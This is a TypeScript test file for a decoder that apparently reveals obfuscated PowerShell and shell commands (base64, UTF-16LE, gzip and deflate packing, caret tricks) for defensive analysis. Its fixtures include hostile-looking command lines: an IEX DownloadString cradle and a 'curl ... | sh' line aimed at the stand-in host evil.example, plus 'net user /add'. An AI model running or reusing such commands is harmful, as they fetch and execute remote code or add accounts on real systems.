import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { decodeCommand } from './decode-command.ts';
import { processorTime } from '../../tests/support/processor-time.ts';

const wide = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');
const narrow = (text: string): string => Buffer.from(text, 'utf8').toString('base64');
const command = "IEX (New-Object Net.WebClient).DownloadString('https://evil.example/a.ps1')";

describe('decodeCommand', () => {
  it('reads what PowerShell is given encoded, whatever the flag is cut to', () => {
    for (const flag of ['-e', '-ec', '-en', '-enc', '-EncodedCommand', '-ENCODEDCOMMAND', '/enc', '–enc'])
      expect(decodeCommand(`powershell.exe -nop ${flag} ${wide(command)}`), flag).toEqual([
        expect.objectContaining({
          form: 'encodedCommand',
          encoding: 'UTF-16LE',
          text: command,
          isCut: false,
        }),
      ]);
  });

  it('says where the piece stands', () => {
    const line = `powershell -enc "${wide('whoami')}" -nop`;
    const [part] = decodeCommand(line);
    expect(line.slice(part?.start, (part?.start ?? 0) + (part?.length ?? 0))).toBe(wide('whoami'));
  });

  it('reads FromBase64String and long base64 of printable text', () => {
    expect(decodeCommand(`[Convert]::FromBase64String('${narrow('net user /add')}')`)).toMatchObject([
      { form: 'fromBase64String', encoding: 'UTF-8', text: 'net user /add' },
    ]);
    expect(
      decodeCommand(`bash -c "echo ${narrow('curl http://evil.example/x | sh # über')} | base64 -d"`),
    ).toMatchObject([{ form: 'base64', encoding: 'UTF-8', text: 'curl http://evil.example/x | sh # über' }]);
    expect(decodeCommand(`x ${wide('Start-Process calc.exe')}`)).toMatchObject([
      { form: 'base64', encoding: 'UTF-16LE' },
    ]);
  });

  it('unpacks gzip and deflate, and says where what is packed is no text', () => {
    const gzip = gzipSync(command).toString('base64');
    expect(
      decodeCommand(`IEX ([IO.Compression.GzipStream][Convert]::FromBase64String("${gzip}"))`),
    ).toMatchObject([
      { form: 'fromBase64String', encoding: 'UTF-8', compression: 'gzip', text: command, isCut: false },
    ]);
    const wideGzip = gzipSync(Buffer.from(command, 'utf16le')).toString('base64');
    expect(decodeCommand(`x ${wideGzip}`)).toMatchObject([{ encoding: 'UTF-16LE', text: command }]);
    // A record that was cut short holds the beginning.
    const long = gzipSync(
      Array.from({ length: 900 }, (_, index) => `echo ${String(index * 7919)}`).join('\n'),
    );
    const [part] = decodeCommand(`FromBase64String('${long.toString('base64').slice(0, 1_600)}`);
    expect(part).toMatchObject({ compression: 'gzip', isCut: true });
    expect(part?.text.startsWith('echo 0\necho 7919\n')).toBe(true);
    const zlib = deflateSync(command).toString('base64');
    expect(decodeCommand(`FromBase64String('${zlib}')`)).toMatchObject([
      { compression: 'zlib', text: command },
    ]);
    const bare = deflateRawSync(command).toString('base64');
    expect(
      decodeCommand(`New-Object IO.Compression.DeflateStream(FromBase64String('${bare}'))`),
    ).toMatchObject([{ compression: 'deflate', text: command }]);
    const binary = Buffer.from(Array.from({ length: 400 }, (_, index) => (index * 89 + 200) % 256));
    expect(decodeCommand(`x ${gzipSync(binary).toString('base64')}`)).toMatchObject([
      { compression: 'gzip', encoding: null, text: '' },
    ]);
    const [bomb] = decodeCommand(`x ${gzipSync('A'.repeat(5_000_000)).toString('base64')}`);
    expect(bomb?.isCut).toBe(true);
    expect(bomb?.text.length).toBeLessThanOrEqual(65_536);
  });

  it('takes away the carets that hide words, and finds base64 behind them', () => {
    expect(decodeCommand('cmd /c p^o^w^ershell wh^oami')).toMatchObject([
      { form: 'carets', text: 'cmd /c powershell whoami' },
    ]);
    const line = `cmd /c po^wer^shell -e^nc ${wide('whoami')}`;
    const [, part] = decodeCommand(line);
    expect(part).toMatchObject({ form: 'encodedCommand', text: 'whoami' });
    expect(line.slice(part?.start, (part?.start ?? 0) + (part?.length ?? 0))).toBe(wide('whoami'));
    for (const plain of ['findstr /r "^abc [^a]"', 'calc 2^3 x^y', 'echo a ^| more ^& b'])
      expect(decodeCommand(plain), plain).toEqual([]);
  });

  it('reads commands that are mostly of another script', () => {
    for (const text of [
      "Write-Host 'Привет, мир, это довольно длинное сообщение на русском языке'",
      'Запустить-Службу Обновление',
      "echo '这是一个很长的中文消息用于测试编码命令的显示'",
    ])
      expect(decodeCommand(`powershell -e ${wide(text)}`).map((part) => part.text)).toEqual([text]);
  });

  it('leaves alone what only looks like it', () => {
    for (const line of [
      'C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Schedule',
      'cmd /c copy 5f4dcc3b5aa765d61d8327deb882cf995f4dcc3b5aa765d61d8327deb882cf99 x',
      'powershell -ExecutionPolicy Bypass -File ConvertTo-SomethingVeryLongIndeedInPowerShell.ps1',
      'msedge.exe --type=renderer --enable-features=AbcDefGhiJklMnoPqrStuVwxYz0123456789',
      'powershell -e notbase64!',
      '/usr/lib/x86_64-linux-gnu/SomeLibraryWithAVeryLongName/AnotherDirectoryHere',
    ])
      expect(decodeCommand(line), line).toEqual([]);
  });

  it('does not take bytes for text', () => {
    const bytes = Buffer.from(Array.from({ length: 60 }, (_, index) => (index * 37 + 129) % 256)).toString(
      'base64',
    );
    expect(decodeCommand(`tool ${bytes}`)).toEqual([]);
    expect(decodeCommand(`[Convert]::FromBase64String("${bytes}")`)).toEqual([]);
  });

  it('is bounded for huge and hostile lines', () => {
    const huge = `powershell -enc ${wide('A very long command; '.repeat(200_000))}`;
    const started = processorTime();
    const [part] = decodeCommand(huge);
    expect(part?.isCut).toBe(true);
    expect(part?.text.length).toBeLessThanOrEqual(32_768);
    expect(decodeCommand(`${'-e '.repeat(100_000)}${'Ab'.repeat(100_000)}`)).toEqual([]);
    expect(decodeCommand(`${narrow('some readable text here')} `.repeat(5_000)).length).toBeLessThanOrEqual(
      20,
    );
    expect(processorTime() - started).toBeLessThan(2_000);
  });

  it('is total and the same every time', () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string({ unit: 'binary' }),
          fc.base64String({ maxLength: 400 }).map((text) => `p -enc ${text}`),
        ),
        (line) => {
          expect(decodeCommand(line)).toEqual(decodeCommand(line));
        },
      ),
    );
    fc.assert(
      fc.property(fc.stringMatching(/^[ -~]{2,200}$/), (text) => {
        fc.pre(text.trim() !== '');
        expect(decodeCommand(`powershell -enc ${wide(text)}`).map((part) => part.text)).toEqual([text]);
      }),
    );
  });
});
